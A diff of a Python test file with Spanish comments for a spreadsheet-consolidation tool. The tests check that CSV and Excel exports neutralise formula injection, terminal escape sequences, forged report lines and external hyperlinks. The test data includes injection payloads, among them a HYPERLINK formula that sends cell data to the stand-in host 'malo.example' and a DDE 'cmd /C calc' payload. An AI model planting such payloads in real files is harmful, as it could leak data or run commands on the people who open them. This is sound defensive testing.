@@ -51,24 +51,38 @@ def _xml_escape_controls(text: str) -> str:
                    for ch in text)
 
 
-def extreme_plan(values: dict[str, Any], rows: tuple[int, ...] = (10,)) -> bytes:
-    """El plan del demo con `values` (celda → valor) en las filas de datos."""
+def extreme_plan(values: dict[str, Any]) -> bytes:
+    """El plan del demo con `values` (celda → valor). openpyxl no escribe caracteres de
+    control: esos textos se escriben con un marcador y se cambian en el XML («_x001B_»)."""
     wb = load_workbook(io.BytesIO(_BASE))
     ws = wb.worksheets[0]
+    markers: dict[str, str] = {}
     for ref, value in values.items():
         for rng in list(ws.merged_cells.ranges):
             if ref in rng:
                 ws.unmerge_cells(str(rng))
+        if value == _CTRL:
+            value = CONTROLS
+        if isinstance(value, str) and re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", value):
+            marker = f"\u2063M{len(markers)}\u2063"
+            markers[marker] = value
+            value = marker
         ws[ref] = value
+        if isinstance(value, str):
+            ws[ref].data_type = "s"  # «=1+1» como texto, como lo escribe una persona con «'»
         if ref[0] in "MNOP" and isinstance(value, float):
             ws[ref].number_format = "0%"
     out = io.BytesIO()
     wb.save(out)
     data = out.getvalue()
     parts = read_parts(data)
-    marker = _CTRL.encode()
-    changed = {name: body.replace(marker, _xml_escape_controls(CONTROLS).encode())
-               for name, body in parts.items() if marker in body}
+    changed = {}
+    for name, body in parts.items():
+        new = body
+        for marker, text in markers.items():
+            new = new.replace(marker.encode(), _xml_escape_controls(text).encode())
+        if new != body:
+            changed[name] = new
     return rezip(data, changed) if changed else data
 
 
@@ -219,3 +233,166 @@ def test_una_falla_interna_con_los_datos_de_un_archivo_solo_degrada_ese_archivo(
     assert entregas["otro.xlsx"]["Estado"] in ("Aceptado", "Con observaciones")
     assert any("«tesoreria.xlsx»" in w for w in result.consolidation.warnings)
     assert len(list((tmp_path / "csv").glob("*.csv"))) == 7
+
+
+# --- 2. Nada de lo que escribe una dependencia llega vivo a otra parte ------------------
+
+#: Textos que una hoja de cálculo tomaría como fórmula en un CSV (OWASP, «CSV Injection»).
+FORMULAS = ['=HYPERLINK("http://malo.example/?"&A1,"Clic")', "+1+1", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1", '=cmd|" /C calc"!A0']
+
+
+def _csv_rows(folder: Path, name: str) -> list[dict[str, str]]:
+    with open(folder / f"{name}.csv", encoding="utf-8-sig", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_csv_sin_formulas_vivas(tmp_path: Path) -> None:
+    """Texto del plan, Dependencia, nombre del archivo y Observaciones que empiezan como
+    fórmula llevan un apóstrofo delante en el CSV; los números siguen siendo números; el
+    Parquet guarda el texto tal cual (columnas de texto)."""
+    folder = tmp_path / "entregas"
+    folder.mkdir()
+    cells = {"B4": FORMULAS[0], "L10": FORMULAS[1], "Q10": FORMULAS[2], "R10": FORMULAS[3],
+             "K10": FORMULAS[4], "S10": FORMULAS[5], "J10": FORMULAS[6], "M11": "=1+1"}
+    (folder / "=1+1.xlsx").write_bytes(extreme_plan(cells))
+    (folder / "bueno.xlsx").write_bytes(plan_bytes(2))
+    out = tmp_path / "bi"
+    proc = run_pea("consolidar", folder, "-o", tmp_path / "m.xlsx", "--csv", out,
+                   "--parquet", out, "-q")
+    assert proc.returncode == 0, proc.stderr
+    seen = set()
+    for csv_file in out.glob("*.csv"):
+        with open(csv_file, encoding="utf-8-sig", newline="") as fh:
+            for row in csv.reader(fh):
+                for value in row:
+                    if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                        pytest.fail(f"{csv_file.name}: celda viva {value!r}")
+                    seen.add(value)
+    for text in [*FORMULAS, "=1+1.xlsx"]:
+        assert "'" + text.strip() in seen, text  # el lector quita los espacios de los extremos
+    entregas = {r["Archivo"]: r for r in _csv_rows(out, "entregas")}
+    assert entregas["'=1+1.xlsx"]["Dependencia"] == "'" + FORMULAS[0]
+    plan = [r for r in _csv_rows(out, "plan_consolidado") if r["Archivo"] == "bueno.xlsx"]
+    assert plan and float(plan[0]["1° trimestre"]) >= 0  # número, sin apóstrofo
+    assert all(r["Fila"].isdigit() for r in plan)
+    obs = [r for r in _csv_rows(out, "observaciones") if r["Archivo"] == "'=1+1.xlsx"]
+    assert obs and all(not r["Mensaje"].startswith(("=", "+", "-", "@")) for r in obs)
+    import pyarrow.parquet as pq
+
+    table = pq.read_table(out / "entregas.parquet").to_pylist()
+    assert {r["Archivo"] for r in table} == {"=1+1.xlsx", "bueno.xlsx"}  # texto tal cual
+
+
+def test_texto_con_tabulador_o_retorno_al_inicio_tambien_se_neutraliza() -> None:
+    """El lector de CSV quita el tabulador o el retorno del inicio: «\\t=1+1» llegaría
+    como «=1+1». Un número de verdad (también negativo) queda como número."""
+    from pea.consolidate.export import csv_text
+
+    for text in ("\t=1+1", "\r=1+1", "\t", " =1+1", "\n-1", "-", "@x", "+"):
+        assert csv_text(text) == "'" + text, text
+    assert csv_text("Tesorería = bien") == "Tesorería = bien"
+    assert csv_text(-0.5) == -0.5 and csv_text(3) == 3 and csv_text(None) is None
+    assert csv_text(float("inf")) == "inf"
+
+
+def test_maestro_sin_formulas_ni_vinculos_de_la_dependencia(tmp_path: Path) -> None:
+    """En el maestro, un texto que empieza con «=» o es una dirección web es texto: ni
+    fórmula ni hipervínculo (XlsxWriter con strings_to_formulas/urls apagados)."""
+    folder = tmp_path / "entregas"
+    folder.mkdir()
+    cells = {"B4": FORMULAS[0], "L10": "=1+1", "R10": "http://malo.example/",
+             "Q10": "mailto:a@malo.example"}
+    (folder / "a.xlsx").write_bytes(extreme_plan(cells))
+    output = tmp_path / "m.xlsx"
+    assert run_pea("consolidar", folder, "-o", output, "-q").returncode == 0
+    with zipfile.ZipFile(output) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/sheet") and name.endswith(".xml"):
+                assert b"<f>" not in z.read(name), name
+            if name.endswith(".rels") and "worksheets" in name:
+                assert b"malo.example" not in z.read(name), name
+    wb = load_workbook(output)
+    plan = wb["Plan consolidado"]
+    values = {c.value for row in plan.iter_rows() for c in row}
+    assert "=1+1" in values and FORMULAS[0] in values
+
+
+def test_la_terminal_muestra_los_nombres_escapados_y_literales(tmp_path: Path) -> None:
+    """ESC/BEL en una Dependencia o en el nombre de un archivo salen escapados; el markup
+    de rich sale tal cual: «[/x]» en una Dependencia daba «Error interno (MarkupError)»
+    (código 1, con el maestro ya escrito) y «Tesoreria [final].xlsx» salía «Tesoreria .xlsx»."""
+    folder = tmp_path / "entregas"
+    folder.mkdir()
+    dep = "Tesorería [/x] [bold]\x1b]0;titulo\x07\x1b[2J"
+    first, second = "Tesoreria [final].xlsx", "Tesoreria \x1b[2Jcopia.xlsx"
+    (folder / first).write_bytes(extreme_plan({"B4": dep}))
+    (folder / second).write_bytes(extreme_plan({"B4": dep, "L10": "Otra meta"}))
+    proc = run_pea("consolidar", folder, "-o", tmp_path / "m.xlsx")
+    text = proc.stdout + proc.stderr
+    assert proc.returncode == 0, text
+    assert "Error interno" not in text
+    assert "\x1b" not in text and "\x07" not in text
+    assert "PEA-X01" in text or "Sustituido" in text or "[/x]" in text
+    assert "[/x] [bold]" in text and "\\x1b]0;titulo\\x07" in text
+    assert "Tesoreria [final].xlsx" in text or "Tesoreria \\x1b[2Jcopia.xlsx" in text
+
+
+def test_los_avisos_escapan_los_nombres(tmp_path: Path) -> None:
+    """Las líneas «Aviso:» nombran archivos: sus caracteres de control y saltos de línea
+    salen escapados (un salto no puede fingir otra línea del reporte)."""
+    folder = tmp_path / "entregas"
+    folder.mkdir()
+    seed = Path(__file__).parent / "fixtures" / "semilla_comunicacion_social.txt"
+    name = "semilla \x1b[2J[x]\nAviso: falso.txt"
+    (folder / name).write_bytes(seed.read_bytes())
+    proc = run_pea("consolidar", folder, "-o", tmp_path / "m.xlsx", "--anotar",
+                   tmp_path / "anotados", "-q")
+    assert proc.returncode == 0, proc.stderr
+    assert "\x1b" not in proc.stderr
+    avisos = [line for line in proc.stderr.splitlines() if line.startswith("Aviso:")]
+    assert avisos and all("falso" not in line or "\\n" in line for line in avisos)
+    assert not any(line.startswith("Aviso: falso") for line in proc.stderr.splitlines())
+    from pea.cli.common import literal, shown
+
+    assert shown("a\x1b[2J\x07\nAviso: falso\tx") == "a\\x1b[2J\\x07\\nAviso: falso\\tx"
+    assert literal("[/x] [bold]y").plain == "[/x] [bold]y"
+
+
+@pytest.mark.parametrize("name", [
+    "\\\\malo.example\\share\\plan.xlsx", "http:\\\\malo.example\\plan.xlsx",
+    "mailto:a@malo.example.xlsx", "C:\\Windows\\plan.xlsx", "file:plan.xlsx",
+])
+def test_vinculos_de_entregas_solo_relativos_a_la_entrega(tmp_path: Path, name: str) -> None:
+    """Con el maestro dentro de la carpeta de entregas, un nombre con barras invertidas o
+    «:» no se vuelve un vínculo UNC, http ni mailto: la celda queda como texto (y un
+    nombre normal sigue con su vínculo relativo)."""
+    folder = tmp_path / "entregas"
+    folder.mkdir()
+    (folder / name).write_bytes(plan_bytes(1))
+    (folder / "Tesorería [final] #2.xlsx").write_bytes(plan_bytes(2))
+    output = folder / "maestro.xlsx"
+    assert run_pea("consolidar", folder, "-o", output, "-q").returncode == 0
+    ws = load_workbook(output)["Entregas"]
+    links = {ws.cell(r, 1).value: ws.cell(r, 1).hyperlink for r in range(2, ws.max_row + 1)}
+    assert links[name] is None
+    good = links["Tesorería [final] #2.xlsx"]
+    assert good is not None and good.target.startswith("Tesor")
+    with zipfile.ZipFile(output) as z:
+        for part in z.namelist():
+            if part.endswith(".rels") and "worksheets" in part:
+                for target in re.findall(r'Target="([^"]*)"', z.read(part).decode()):
+                    if target.startswith(("../", "/xl/")) or "External" not in z.read(part).decode():
+                        continue
+                    assert ":" not in target and not target.startswith(("\\", "/")), target
+
+
+def test_vinculo_relativo_armado_con_las_partes() -> None:
+    from pea.consolidate.master import relative_link
+
+    base = Path("/srv/entregas")
+    assert relative_link(base / "sub" / "a b#1%.xlsx", base) == "external:sub/a%20b%231%25.xlsx"
+    assert relative_link(Path("/srv/otra/plan.xlsx"), base) == "external:../otra/plan.xlsx"
+    assert relative_link(base / "x\\y.xlsx", base) is None
+    assert relative_link(base / "mailto:a@b.xlsx", base) is None
+    assert relative_link(base / ("a" * 2100 + ".xlsx"), base) is None
